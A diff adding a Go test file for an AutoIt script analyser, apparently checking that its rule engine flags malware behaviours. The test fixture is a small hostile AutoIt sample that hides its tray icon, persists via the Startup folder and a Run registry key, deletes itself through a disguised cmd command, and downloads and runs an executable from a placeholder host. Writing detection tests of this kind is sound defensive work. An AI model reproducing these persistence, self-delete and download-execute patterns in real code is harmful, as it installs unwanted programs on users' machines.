@@ -0,0 +1,98 @@
+package tests
+
+import (
+	"github.com/x0r19x91/libautoit/parser"
+	"github.com/x0r19x91/libautoit/rules"
+	"strings"
+	"testing"
+)
+
+const behaviours = `Opt("TrayIconHide", 1)
+_Install()
+_Update()
+
+Func _Install()
+	FileCopy(@ScriptFullPath, @StartupDir & "\svc.exe", 1)
+	RegWrite("HKCU\Software\Microsoft\Windows\CurrentVersion\" & "Run", "svc", "REG_SZ", @AppDataDir & "\svc.exe")
+EndFunc
+
+Func _Update()
+	Run(@ComSpec & " /c ping 127.0.0.1 && " & Chr(100) & "el " & @ScriptFullPath, "", @SW_HIDE)
+	InetGet("http://example.com/u.exe", @TempDir & "\u.exe")
+	ShellExecute(@TempDir & "\u.exe")
+EndFunc
+
+Func _Order()
+	ShellExecute("calc.exe")
+	InetGet("http://example.com/u.exe", @TempDir & "\u.exe")
+EndFunc
+`
+
+const customRules = `[
+	{
+		"name": "temp-drop",
+		"scope": "function",
+		"all": [
+			{"call": "InetGet", "args": ["^http://", "@TempDir"]},
+			{"macro": "@TempDir"}
+		],
+		"not": [
+			{"call": "ShellExecute", "any_arg": "calc"}
+		]
+	}
+]`
+
+func TestRules(t *testing.T) {
+	script, err := parser.ParseSource([]byte(behaviours))
+	if err != nil {
+		t.Fatal(err)
+	}
+	engine, err := rules.NewEngine(rules.Default)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := make(map[string]*rules.Match)
+	for _, m := range engine.Match(script) {
+		got[m.Rule.Name+" "+m.Func] = m
+	}
+	for _, want := range []string{
+		"startup-folder-persistence _Install",
+		"run-key-persistence _Install",
+		"self-delete _Update",
+		"download-execute _Update",
+		"hidden-tray ",
+	} {
+		if got[want] == nil {
+			t.Errorf("missing %q", want)
+		}
+	}
+	if got["download-execute _Order"] != nil {
+		t.Error("sequence matched out of order")
+	}
+	if m := got["run-key-persistence _Install"]; m != nil {
+		if len(m.Evidence) != 1 || m.Evidence[0].Pos.Line != 7 || !strings.HasPrefix(m.Evidence[0].Text, "RegWrite(") {
+			t.Errorf("bad evidence %+v", m.Evidence)
+		}
+	}
+	if m := got["download-execute _Update"]; m != nil && len(m.Evidence) != 2 {
+		t.Errorf("bad evidence %+v", m.Evidence)
+	}
+
+	custom, err := rules.Load(strings.NewReader(customRules))
+	if err != nil {
+		t.Fatal(err)
+	}
+	engine, err = rules.NewEngine(custom)
+	if err != nil {
+		t.Fatal(err)
+	}
+	matches := engine.Match(script)
+	if len(matches) != 1 || matches[0].Func != "_Update" || len(matches[0].Evidence) != 3 {
+		t.Errorf("custom rule: %+v", matches)
+	}
+
+	bad := []*rules.Rule{{Name: "bad", Any: []*rules.Pattern{{Call: "Run", Macro: "TempDir"}}}}
+	if _, err := rules.NewEngine(bad); err == nil {
+		t.Error("pattern with a call and a macro accepted")
+	}
+}